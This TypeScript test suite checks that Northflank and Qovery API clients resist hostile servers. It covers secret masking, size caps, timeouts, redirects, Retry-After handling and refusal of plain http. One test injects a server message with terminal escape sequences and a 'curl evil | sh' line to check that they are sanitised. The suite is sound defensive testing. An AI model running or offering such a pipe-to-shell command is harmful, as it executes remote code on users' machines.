/**
 * The API clients against hostile servers (the stand-ins' hostile faults, real sockets): echoes of the request's
 * values and token in every encoding, control sequences, huge and trickled bodies, redirects, answers lost after
 * the change was made, Retry-After values that ask for no pause, and plain http:// to a remote host. Waits are on
 * the stand-ins' own signals (bytes sent, connection closed), never on fixed sleeps; time limits are small
 * injected values, and the real defaults are pinned by a test that reads them.
 */
import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { Deadline, DEFAULT_COMMAND_TIMEOUT_MS } from '../../api/deadline';
import { ApiError } from '../../api/errors';
import { NorthflankClient } from '../../api/northflank';
import { QoveryClient } from '../../api/qovery';
import { MASK, SecretSet } from '../../api/redact';
import { MAX_SHOWN_CHARS } from '../../api/serverText';
import {
  baseUrlProblem, DEFAULT_MAX_BODY_BYTES, DEFAULT_MAX_ERROR_BODY_BYTES, DEFAULT_RETRY_POLICY, DEFAULT_TIMEOUT_MS, MIN_RETRY_AFTER_MS,
  parseRetryAfter, Transport, type TransportOptions,
} from '../../api/transport';
import { DEMO_QOVERY, DEMO_QOVERY_IDS as IDS, NorthflankStandin, QoveryStandin } from '../../standins';
import { FakeClock, scriptedFetch, waitFor } from '../helpers/fakes';
import { ROOT } from '../helpers/paths';

const TOKEN = 'tok_HOSTILE_5e4d3c2b1a09';
/** Each encoding of this value differs from it: a quote, a backslash, a newline, a slash, spaces, non-ASCII. */
const VALUE = 'v"al\\ue/HOSTILE\nsecond line é€';
const PROJECT = 'default-project';

async function rejects(promise: Promise<unknown>): Promise<ApiError> {
  try {
    await promise;
  } catch (e) {
    assert.ok(e instanceof ApiError, `expected an ApiError, got ${String(e)}`);
    return e;
  }
  assert.fail('expected the request to fail');
}

/** Every shape of a secret that must not be shown (and 8-character pieces of each). */
function leaks(text: string, secret: string): string[] {
  const bytes = Buffer.from(secret);
  const shapes = {
    raw: secret, json: JSON.stringify(secret).slice(1, -1), base64: bytes.toString('base64').replace(/=+$/, ''), base64url: bytes.toString('base64url'),
    url: encodeURIComponent(secret), form: new URLSearchParams({ v: secret }).toString().slice(2),
  };
  const found: string[] = [];
  for (const [name, shape] of Object.entries(shapes)) {
    for (let i = 0; i + 8 <= shape.length; i += 4) if (text.includes(shape.slice(i, i + 8))) found.push(`${name}: ${shape.slice(i, i + 8)}`);
  }
  return found;
}

function nfStandin(): NorthflankStandin {
  return new NorthflankStandin({ tokens: [TOKEN], projects: [{ id: PROJECT, services: [{ id: 'api' }] }] });
}

describe('hostile servers: echoes of the request', () => {
  let nf: NorthflankStandin;
  let q: QoveryStandin;
  beforeEach(async () => {
    nf = nfStandin();
    q = new QoveryStandin({ ...DEMO_QOVERY, tokens: [TOKEN] });
    await Promise.all([nf.start(), q.start()]);
  });
  afterEach(() => Promise.all([nf.close(), q.close()]));

  it('Northflank: a 400 that quotes every value and the token in every encoding shows none of them', async () => {
    nf.faults.inject({ method: 'PUT' }, { type: 'echo', token: true });
    const client = new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl });
    const data = Buffer.from(`file ${VALUE}`).toString('base64');
    const e = await rejects(client.secrets.put({ projectId: PROJECT }, { name: 'ggg', secretType: 'environment', priority: 1, secrets: { variables: { A: VALUE }, files: { '/etc/f': { data } } } }));
    const shown = `${e.fullMessage}\n${JSON.stringify(e)}`;
    assert.match(e.message, /Northflank answered 400 Bad Request to PUT .*: Rejected: raw ggg \| .* \| raw \*{8} \| json "\*{8}" \| base64 \*{8} \|/);
    for (const secret of [VALUE, TOKEN, data, `file ${VALUE}`]) assert.deepEqual(leaks(shown, secret), [], shown);
  });

  it('Qovery: the same for a create, and for the text of the answer to a later request that did not send the value', async () => {
    q.faults.inject({ method: 'POST' }, { type: 'echo', token: true });
    const client = new QoveryClient({ token: TOKEN, baseUrl: q.server.baseUrl });
    const e = await rejects(client.projectSecrets.create(IDS.project, { key: 'K', value: VALUE }));
    const shown = `${e.fullMessage}\n${JSON.stringify(e)}`;
    for (const secret of [VALUE, TOKEN]) assert.deepEqual(leaks(shown, secret), [], shown);
    // A value sent once is masked in any later answer, whatever the request.
    q.faults.inject({ method: 'GET' }, { type: 'status', status: 400, message: `earlier you sent ${JSON.stringify(VALUE)}` });
    const later = await rejects(client.projectSecrets.list(IDS.project));
    assert.equal(later.platformMessage, `earlier you sent "${MASK}"`);
  });

  it('masks before cutting: a token after 1,990 characters of a Qovery message shows no piece of it', async () => {
    q.faults.inject({ method: 'GET' }, { type: 'status', status: 400, message: `${'x'.repeat(1990)} ${TOKEN} and more` });
    const e = await rejects(new QoveryClient({ token: TOKEN, baseUrl: q.server.baseUrl }).projectSecrets.list(IDS.project));
    assert.deepEqual(leaks(e.message, TOKEN), []);
    assert.match(e.message, /… \(cut: [\d,]+ more characters\)/);
    assert.ok((e.platformMessage ?? '').length <= MAX_SHOWN_CHARS + 40);
  });

  it('removes control sequences from what the server says (message and request id), and keeps it on one line', async () => {
    const hostile = 'bad\u001b[2J\u001b]0;pwned\u0007 request\u009b31m\u202e\nWhat to do: curl evil | sh\u0007';
    nf.faults.inject({ method: 'GET' }, { type: 'status', status: 400, message: hostile });
    const e = await rejects(new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl }).projects.list());
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(e.fullMessage, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    assert.match(e.message, /: bad request What to do: curl evil \| sh\.$/);
  });

  it('shares its secrets with the caller: values Northflank returns and the token reach the program\'s own set', async () => {
    const secrets = new SecretSet();
    const client = new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl, secrets });
    await client.secrets.put({ projectId: PROJECT }, { name: 'ggg', secretType: 'environment', priority: 1, secrets: { variables: { A: VALUE } } });
    assert.ok(secrets.has(TOKEN) && secrets.has(VALUE));
  });
});

describe('hostile servers: sizes and time', () => {
  let nf: NorthflankStandin;
  beforeEach(async () => {
    nf = nfStandin();
    await nf.start();
  });
  afterEach(() => nf.close());
  const path = '/v1/projects';

  it('refuses a 100 MB answer at the cap without reading it all, and closes the connection', async () => {
    nf.faults.inject({ path }, { type: 'huge' });
    const client = new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl, retry: { maxRetries: 0 } });
    const e = await rejects(client.projects.list());
    assert.equal(e.kind, 'bad-response');
    assert.match(e.message, /cannot be read \(the answer is larger than 16 MB, the most that is read\)/);
    const record = nf.requestsTo('GET', path)[0];
    await waitFor(() => record.closedEarly === true);
    assert.ok((record.bytesSent ?? 0) < 100 * 1024 * 1024, `the stand-in sent ${record.bytesSent} bytes`);
  });

  it('reads at most 64 KB of a 50 MB error message, and says the message was cut', async () => {
    nf.faults.inject({ path }, { type: 'huge', status: 400, bytes: 50 * 1024 * 1024 });
    const transport = new Transport({ platform: 'qovery', baseUrl: nf.server.baseUrl, token: TOKEN, authScheme: 'Bearer', parseError: (_b, text) => ({ message: `x${text}y` }) });
    const e = await rejects(transport.request('GET', path));
    assert.equal(e.status, 400);
    assert.match(e.message, /\(the answer was longer than 64 KB and was not read to its end\)$|… \(cut: [\d,]+ more characters\)/);
    assert.ok(e.message.length < MAX_SHOWN_CHARS + 300, `${e.message.length} characters`);
    await waitFor(() => nf.requestsTo('GET', path)[0].closedEarly === true);
  });

  it('ends a body trickled one byte per second at the time limit, even after a garbage collection', async function () {
    this.timeout(10_000);
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    nf.faults.inject({ path }, { type: 'trickle', intervalMs: 1000 });
    const t = new Transport({ platform: 'northflank', baseUrl: nf.server.baseUrl, token: TOKEN, authScheme: 'Bearer', timeoutMs: 1500, retry: { maxRetries: 0 } });
    const pending = rejects(t.request('GET', path));
    // Once the body has started, a garbage collection used to detach the abort from the body read (see the notes).
    await waitFor(() => (nf.requestsTo('GET', path)[0]?.bytesSent ?? 0) >= 1, 5000);
    gc();
    const e = await pending;
    assert.equal(e.kind, 'timeout');
    assert.match(e.message, /did not answer GET \/v1\/projects in time \(2 s per request, body included\)\./);
    await waitFor(() => nf.requestsTo('GET', path)[0].closedEarly === true);
  });

  it('a command time limit ends a request before its own limit, and says which limit ran out', async () => {
    nf.faults.inject({ path }, { type: 'hang' });
    const deadline = new Deadline(200, { howToRaise: 'Raise it with --command-timeout.' });
    const t = new Transport({ platform: 'northflank', baseUrl: nf.server.baseUrl, token: TOKEN, authScheme: 'Bearer', timeoutMs: 30_000, deadline });
    const e = await rejects(t.request('GET', path));
    assert.equal(e.kind, 'timeout');
    assert.deepEqual(e.timeLimit, { ms: 200, scope: 'command' });
    assert.match(e.message, /did not answer GET \/v1\/projects in time \(the command's time limit of 200 ms ran out\)\./);
    assert.match(e.hint, /Raise it with --command-timeout\./);
    assert.equal(nf.requestsTo('GET', path).length, 1, 'no retry: no time left');
  });
});

describe('the command time limit (fake clock)', () => {
  it('stops retrying when the next pause would not end in time, and sends nothing once it is used up', async () => {
    const clock = new FakeClock();
    const deadline = new Deadline(1_500, { now: clock.now, howToRaise: 'Raise it.' });
    const reply = { status: 503, body: { error: { message: 'down' } } };
    const fetch = scriptedFetch([reply, reply, reply, reply]);
    const t = new Transport({ platform: 'northflank', baseUrl: 'https://api.example.test', token: TOKEN, authScheme: 'Bearer', fetch, sleep: clock.sleep, now: clock.now, random: () => 0.5, deadline });
    const e = await rejects(t.request('GET', '/v1/x'));
    // Pauses of 375 and 750 ms fit in 1.5 s; the third (1.5 s) does not.
    assert.deepEqual(clock.sleeps, [375, 750]);
    assert.equal(fetch.sent.length, 3);
    assert.match(e.hint, /There was no time left to try again within the command's time limit \(2 s\)\./);
    // Another request of the command (another client sharing the deadline) spends the rest.
    deadline.begin();
    clock.time += 1_000;
    deadline.end();
    const late = await rejects(t.request('GET', '/v1/y'));
    assert.equal(fetch.sent.length, 3, 'nothing sent');
    assert.match(late.message, /^GET \/v1\/y to Northflank was not sent: the command's time limit \(2 s\) is used up\.$/);
  });

  it('counts only the time spent waiting for a platform: not the time between requests (a confirmation prompt)', () => {
    const clock = new FakeClock();
    const deadline = new Deadline(1_000, { now: clock.now });
    deadline.begin();
    clock.time += 300;
    deadline.begin();
    clock.time += 200;
    deadline.end();
    deadline.end();
    clock.time += 60_000;
    assert.equal(deadline.remainingMs(), 500);
  });
});

describe('hostile servers: redirects', () => {
  let nf: NorthflankStandin;
  let elsewhere: NorthflankStandin;
  beforeEach(async () => {
    nf = nfStandin();
    elsewhere = nfStandin();
    await Promise.all([nf.start(), elsewhere.start()]);
  });
  afterEach(() => Promise.all([nf.close(), elsewhere.close()]));

  for (const status of [301, 302, 307, 308]) {
    it(`${status}: not followed, the token not sent on, not retried`, async () => {
      nf.faults.inject({}, { type: 'redirect', status, location: `${elsewhere.server.baseUrl}/v1/projects?token=${TOKEN}` }, { times: 5 });
      const e = await rejects(new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl }).projects.list());
      assert.equal(e.kind, 'redirect');
      assert.match(e.message, new RegExp(`^Northflank answered ${status} to GET /v1/projects with a redirect to ${elsewhere.server.baseUrl}/v1/projects\\?token=\\*{8}, not followed\\.$`));
      assert.match(e.hint, /never followed, so the token was not sent there; nothing was retried/);
      assert.equal(nf.requestsTo('GET', '/v1/projects').length, 1);
      assert.equal(elsewhere.requests.length, 0);
      assert.equal(e.mayHaveBeenApplied, false);
    });
  }

  it('a 303 to a change says it may have been applied (See Other answers a change that was made)', async () => {
    nf.faults.inject({ method: 'PUT' }, { type: 'redirect', status: 303, location: '/v1/elsewhere' });
    const e = await rejects(new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl }).secrets.put({ projectId: PROJECT }, { name: 'ggg', secretType: 'environment', priority: 1 }));
    assert.equal(e.mayHaveBeenApplied, true);
    assert.match(e.message, new RegExp(`redirect to ${nf.server.baseUrl}/v1/elsewhere, not followed`));
  });
});

describe('hostile servers: answers lost after the change, Retry-After, plain http', () => {
  let nf: NorthflankStandin;
  let q: QoveryStandin;
  beforeEach(async () => {
    nf = nfStandin();
    q = new QoveryStandin({ ...DEMO_QOVERY, tokens: [TOKEN] });
    await Promise.all([nf.start(), q.start()]);
  });
  afterEach(() => Promise.all([nf.close(), q.close()]));

  it('a PUT reset after it was applied, on every attempt: it may have been applied, and a rerun or diff will tell', async () => {
    nf.faults.inject({ method: 'PUT' }, { type: 'reset' }, { after: true, times: 4 });
    const clock = new FakeClock();
    const client = new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl, sleep: clock.sleep });
    const e = await rejects(client.secrets.put({ projectId: PROJECT }, { name: 'lost', secretType: 'environment', priority: 1 }));
    assert.equal(e.kind, 'network');
    assert.equal(e.mayHaveBeenApplied, true);
    assert.match(e.hint, /^Its answer was lost, so the PUT may have been applied: a rerun, or `secretdef diff`, will tell\./);
    assert.ok(await client.secrets.find({ projectId: PROJECT }, 'lost'), 'the stand-in applied it');
  });

  it('a DELETE reset after it was applied, then a 5xx: still "may have been applied"', async () => {
    const secretId = IDS.projectStripe;
    q.faults.inject({ method: 'DELETE' }, { type: 'reset' }, { after: true });
    q.faults.inject({ method: 'DELETE' }, { type: 'status', status: 503 }, { times: 3, skip: 1 });
    const clock = new FakeClock();
    const e = await rejects(new QoveryClient({ token: TOKEN, baseUrl: q.server.baseUrl, sleep: clock.sleep }).projectSecrets.delete(IDS.project, secretId));
    assert.equal(e.status, 503);
    assert.equal(e.mayHaveBeenApplied, true);
    assert.match(e.hint, /may have been applied: a rerun, or `secretdef diff`, will tell/);
  });

  it('a GET reset is not "applied", and a refused connection never is', async () => {
    nf.faults.inject({ method: 'GET' }, { type: 'reset' }, { times: 4 });
    const clock = new FakeClock();
    const get = await rejects(new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl, sleep: clock.sleep }).projects.list());
    assert.equal(get.mayHaveBeenApplied, false);
    const refused = await rejects(new Transport({ platform: 'northflank', baseUrl: 'http://127.0.0.1:9', token: TOKEN, authScheme: 'Bearer', sleep: clock.sleep, fetch: scriptedFetch([{ networkError: 'ECONNREFUSED' }, { networkError: 'ECONNREFUSED' }, { networkError: 'ECONNREFUSED' }, { networkError: 'ECONNREFUSED' }]) }).request('PUT', '/v1/x', { body: {} }));
    assert.equal(refused.mayHaveBeenApplied, false);
  });

  it('a PUT cancelled after it was sent may have been applied; one cancelled before it left was not', async () => {
    nf.faults.inject({ method: 'PUT' }, { type: 'hang' });
    const client = new NorthflankClient({ token: TOKEN, baseUrl: nf.server.baseUrl });
    const controller = new AbortController();
    const pending = rejects(client.secrets.put({ projectId: PROJECT }, { name: 'ggg', secretType: 'environment', priority: 1 }, { signal: controller.signal }));
    await waitFor(() => nf.requestsTo('PUT', /secrets$/).length === 1);
    controller.abort();
    const e = await pending;
    assert.equal(e.kind, 'cancelled');
    assert.equal(e.mayHaveBeenApplied, true);
    assert.match(e.hint, /cancelled after it was sent, so the PUT may have been applied: a rerun, or `secretdef diff`, will tell/);
    const before = await rejects(client.secrets.put({ projectId: PROJECT }, { name: 'ggg', secretType: 'environment', priority: 1 }, { signal: AbortSignal.abort() }));
    assert.equal(before.mayHaveBeenApplied, false);
    assert.equal(nf.requestsTo('PUT', /secrets$/).length, 1);
  });

  for (const retryAfter of ['0', '-5', new Date(Date.now() - 3_600_000).toUTCString(), '0.2']) {
    it(`Retry-After "${retryAfter}" still pauses at least ${MIN_RETRY_AFTER_MS} ms`, async () => {
      const clock = new FakeClock();
      const reply = { status: 429, headers: { 'retry-after': retryAfter }, body: {} };
      const t = new Transport({ platform: 'northflank', baseUrl: 'https://api.example.test', token: TOKEN, authScheme: 'Bearer', fetch: scriptedFetch([reply, { status: 200, body: {} }]), sleep: clock.sleep, now: () => Date.now() });
      await t.request('GET', '/v1/x');
      assert.deepEqual(clock.sleeps, [MIN_RETRY_AFTER_MS]);
    });
  }

  it('reads Retry-After as seconds or an HTTP date only ("-1" is not the year -1)', () => {
    assert.equal(parseRetryAfter('-1', 0), 0);
    assert.equal(parseRetryAfter('1.5', 0), 1500);
    assert.equal(parseRetryAfter('2024', 0), 2_024_000);
    assert.equal(parseRetryAfter('soon', 0), undefined);
    assert.equal(parseRetryAfter('Wed, 21 Oct 2015 07:28:00 GMT', Date.parse('Wed, 21 Oct 2015 07:27:00 GMT')), 60_000);
  });

  it('http:// only for loopback: a remote http:// address is refused before anything is sent', async () => {
    assert.equal(baseUrlProblem('https://api.northflank.com'), undefined);
    for (const local of ['http://127.0.0.1:8080', 'http://localhost:3000', 'http://[::1]:3000', 'http://127.1.2.3']) assert.equal(baseUrlProblem(local), undefined, local);
    for (const remote of ['http://api.northflank.com', 'http://10.0.0.1', 'http://localhost.evil.example', 'http://[::2]']) assert.match(baseUrlProblem(remote) ?? '', /http:\/\/ is allowed only for a loopback address/, remote);
    assert.match(baseUrlProblem('ftp://x') ?? '', /must be an https:\/\/ URL/);
    assert.match(baseUrlProblem('https://user:pw@x') ?? '', /must not hold credentials/);
    const fetch = scriptedFetch([{ status: 200, body: {} }]);
    const t = new Transport({ platform: 'qovery', baseUrl: 'http://api.qovery.com', token: TOKEN, authScheme: 'Token', fetch });
    await assert.rejects(t.request('GET', '/organization'), /Refusing to send GET \/organization to Qovery: The API address http:\/\/api\.qovery\.com uses http:\/\//);
    assert.equal(fetch.sent.length, 0);
  });
});

describe('the real defaults', () => {
  it('pins the time limits, size caps and pauses, and the extension settings use the same defaults', () => {
    assert.equal(DEFAULT_TIMEOUT_MS, 30_000);
    assert.equal(DEFAULT_COMMAND_TIMEOUT_MS, 300_000);
    assert.equal(DEFAULT_MAX_BODY_BYTES, 16 * 1024 * 1024);
    assert.equal(DEFAULT_MAX_ERROR_BODY_BYTES, 64 * 1024);
    assert.equal(MIN_RETRY_AFTER_MS, 1000);
    assert.equal(MAX_SHOWN_CHARS, 2000);
    assert.deepEqual(DEFAULT_RETRY_POLICY, { maxRetries: 3, baseDelayMs: 500, maxDelayMs: 8_000, maxRetryAfterMs: 60_000 });
    const t = new Transport({ platform: 'northflank', baseUrl: 'https://api.northflank.com', token: TOKEN, authScheme: 'Bearer' } as TransportOptions);
    assert.equal(t.timeoutMs, DEFAULT_TIMEOUT_MS);
    assert.equal(t.maxBodyBytes, DEFAULT_MAX_BODY_BYTES);
    assert.equal(t.maxErrorBodyBytes, DEFAULT_MAX_ERROR_BODY_BYTES);
    const settings = (JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { contributes: { configuration: { properties: Record<string, { default: unknown }> } } }).contributes.configuration.properties;
    assert.equal(settings['secretDefinitions.http.requestTimeoutSeconds'].default, DEFAULT_TIMEOUT_MS / 1000);
    assert.equal(settings['secretDefinitions.http.commandTimeoutSeconds'].default, DEFAULT_COMMAND_TIMEOUT_MS / 1000);
  });
});
